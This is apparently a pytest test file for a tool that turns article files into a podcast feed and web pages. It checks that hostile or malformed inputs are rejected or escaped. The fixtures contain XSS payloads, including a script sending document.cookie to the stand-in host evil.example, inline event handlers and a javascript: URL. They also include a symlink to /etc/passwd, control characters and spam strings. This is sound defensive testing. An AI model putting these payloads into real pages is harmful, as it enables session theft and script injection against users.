"""Hostile and broken input: every article gets an episode or one clear line naming its file;
nothing hostile reaches the feed or the page unescaped; the rest still publishes."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import feedparser
import podcastparser
import pytest

from audionews.fsutil import printable
from tests.helpers import build, make_show

BODY = "测试标题\n\n这是一段很短的正文。第二句。\n"
HOSTILE_TITLE = "标题 & <script>alert('t')</script> ]]> 结束"
SPAM = "欧美成人在线免费视频_久久精品亚洲一区_日本久久一区二区_成年国产_最新亚洲精品\n主站蜘蛛池模板: 男人天堂 | 天天碰 | 亚洲\n"
LONG = "超长文章\n\n" + "\n\n".join(f"这是第{i}段用来测试长度限制的正文，内容很长。" * 20 for i in range(420))

GOOD: dict[str, str | bytes] = {
    "good.txt": BODY,
    "hostile.html": (
        f"<html><head><title>{HOSTILE_TITLE.replace('&', '&amp;').replace('<', '&lt;')}</title>"
        "<script>document.location='http://evil.example/'+document.cookie</script></head>"
        '<body onload="alert(1)"><h1>标题</h1><p onclick="alert(2)">第一段正文，<b>加粗</b>的文字。'
        "<img src=x onerror=alert(3)>第二句话。</p><p>第二段正文也很短。</p>"
        "<p>第三段正文。</p><script>alert(4)</script></body></html>"
    ),
    "hostile-title.md": f"---\ntitle: {HOSTILE_TITLE}\n---\n正文只有一句话。\n",
    "bidi.txt": "控制\u202e字符\u200b标题\x07\n\n正文里有\u2066双向\u2069控制字符\u200d和零宽字符。\n",
    "emoji.txt": "表情和英文\n\n今天天气很好😀，我们去Apple Store买了一部iPhone。\n",
    "dup-a.txt": "同一个标题\n\n第一篇文章的正文。\n",
    "dup-b.txt": "同一个标题\n\n第二篇文章的正文。\n",
    "with space.txt": BODY,
    "中文名.txt": BODY,
    "-dash.txt": BODY,
    ".dot.txt": BODY,
    "n" * 200 + ".txt": BODY,
    # names as users' machines leave them: GBK bytes from a Windows zip, 253 bytes, a newline,
    # leading dashes, and three names that slug alike (all three must build, with their own slugs)
    os.fsdecode("新闻稿".encode("gbk") + b".txt"): BODY,
    "长" * 83 + ".txt": BODY,
    "new\nline.txt": BODY,
    "--help.txt": BODY,
    "Same.txt": "同名一\n\n大写文件名的文章。\n",
    "same.txt": "同名二\n\n小写文件名的文章。\n",
    "same.md": "同名三\n\n另一种格式的同名文章。\n",
}
BAD: dict[str, tuple[str | bytes, str]] = {
    "empty.txt": ("", "empty"),
    "whitespace.txt": ("  \n\t \n", "empty"),
    "garbage.txt": (
        os.urandom(4000).replace(b"\xff\xfe", b"ab").replace(b"\xfe\xff", b"ab").replace(b"\xef\xbb", b"ab"),
        "not a text file",
    ),
    "all-spam.txt": (SPAM, "junk"),
    "huge.txt": (LONG, "max_chars"),
    "unclosed.md": ("---\ntitle: 没有结束的头部\n\n正文。\n", "never closed"),
    "bad-date.md": ("---\ntitle: 坏日期\ndate: 2022-13-45\n---\n正文一句。\n", "date"),
    "js-url.md": ("---\ntitle: 坏链接\nurl: javascript:alert(1)\n---\n正文一句。\n", "url"),
    "punctuation.txt": ("。。。！！！？？？……", "has no readable text"),
    "one.txt": ("好", "not an article: no sentence"),  # a word is not an article
    os.fsdecode("不好".encode("gbk") + b"\n.txt"): ("", "empty"),  # named in the error as \xb2\xbb\xba\xc3\n
}


# files that are not articles at all: (how to make one, the reason the build must give)
SPECIAL: dict[str, tuple[str, str]] = {
    "outside.txt": ("link to /etc/passwd", "leading out of the articles folder"),
    "folder.txt": ("folder", "not a regular file (a folder)"),
    "pipe.txt": ("FIFO", "not a regular file (a FIFO)"),
    "dangling.txt": ("link to a missing file", "vanished before it could be read"),
}
if os.geteuid() == 0:  # only root can make a device node; only non-root is stopped by mode 000
    SPECIAL["device.txt"] = ("character device", "not a regular file (a device or socket)")
else:
    SPECIAL["unreadable.txt"] = ("mode 000", "cannot be read")


def _make_special(articles: Path) -> None:
    (articles / "outside.txt").symlink_to("/etc/passwd")
    (articles / "inside-link.txt").symlink_to("good.txt")  # stays inside: an article like any other
    (articles / "folder.txt").mkdir()
    os.mkfifo(articles / "pipe.txt")
    (articles / "dangling.txt").symlink_to("gone.txt")
    if "device.txt" in SPECIAL:
        os.mknod(articles / "device.txt", stat.S_IFCHR | 0o600, os.makedev(1, 3))  # /dev/null's numbers
    else:
        (articles / "unreadable.txt").write_text(BODY, encoding="utf-8")
        (articles / "unreadable.txt").chmod(0)


@pytest.fixture(scope="module")
def hostile_show(tmp_path_factory, clip_cache):
    root = make_show(
        tmp_path_factory.mktemp("hostile"),
        clip_cache,
        {**GOOD, **{name: content for name, (content, _) in BAD.items()}},
    )
    _make_special(root / "articles")
    run, report = build(root)
    return root, run, report


def _by_file(report: dict) -> dict[str, dict]:
    return {e["slug"]: e for e in report["episodes"]}


def test_exit_code_and_no_traceback(hostile_show):
    _, run, report = hostile_show
    assert run.code == 1
    assert "Traceback" not in run.stderr and "Traceback" not in run.stdout
    assert len(report["episodes"]) == len(GOOD) + len(BAD) + len(SPECIAL) + 1  # + inside-link.txt


def test_every_bad_article_gets_one_line_naming_it(hostile_show):
    _, _, report = hostile_show
    failed = {
        e["error"].split(": ")[0].rsplit("/", 1)[-1]: e["error"] for e in report["episodes"] if e["status"] == "failed"
    }
    expected = {printable(name): reason for name, (_, reason) in [*BAD.items(), *SPECIAL.items()]}
    assert set(failed) == set(expected)
    for name, reason in expected.items():
        assert reason in failed[name], (name, failed[name])
        assert "\n" not in failed[name]


def test_every_good_article_is_published(hostile_show):
    _, _, report = hostile_show
    built = [e for e in report["episodes"] if e["status"] == "built"]
    assert len(built) == len(GOOD) + 1
    guids = {e["guid"] for e in built}
    assert len(guids) == len(built)  # duplicate titles and names that slug alike get their own episode
    slugs = {e["slug"] for e in built}
    assert {"same", "zhong-wen"} & slugs == {"same"}  # one of the three keeps the plain name
    assert sum(s.startswith("same") for s in slugs) == 3
    assert any(s.startswith("xin-wen-gao-") for s in slugs)  # a GBK-encoded name still reads as pinyin
    for episode in built:
        assert Path(episode["mp3"]).stat().st_size > 10_000
        assert len(episode["slug"]) <= 80 and episode["slug"][0] not in ".-"


def test_feed_stays_valid_and_escaped(hostile_show):
    root, _, _ = hostile_show
    raw = (root / "feed/feed.xml").read_bytes()
    parsed = feedparser.parse(raw)
    assert not parsed.bozo, parsed.bozo_exception
    assert len(parsed.entries) == len(GOOD) + 1
    with (root / "feed/feed.xml").open("rb") as stream:
        assert len(podcastparser.parse("http://podcast.test/show/feed.xml", stream)["episodes"]) == len(GOOD) + 1
    titles = {e.title for e in parsed.entries}
    assert any("<script>" in t for t in titles)  # the text survives, as text
    assert b"<script>alert" not in raw  # ... and is escaped in the XML


def test_page_escapes_everything_hostile(hostile_show):
    root, _, _ = hostile_show
    pages = [root / "feed/index.html", *sorted((root / "feed/episodes").glob("*.html"))]
    assert len(pages) == len(GOOD) + 2
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html and "onerror=" not in html and 'onclick="alert' not in html
        assert "evil.example" not in html
        assert "\u202e" not in html and "\u200b" not in html and "\x07" not in html


def test_a_short_episode_meets_the_loudness_target_too(hostile_show):
    from audionews.master import measure

    _, _, report = hostile_show
    [short] = [e for e in report["episodes"] if e["slug"] == "good"]
    assert short["duration_s"] < 30
    loud = measure(Path(short["mp3"]))
    assert -17.0 <= loud.integrated_lufs <= -15.0 and loud.true_peak_db <= -1.5, loud
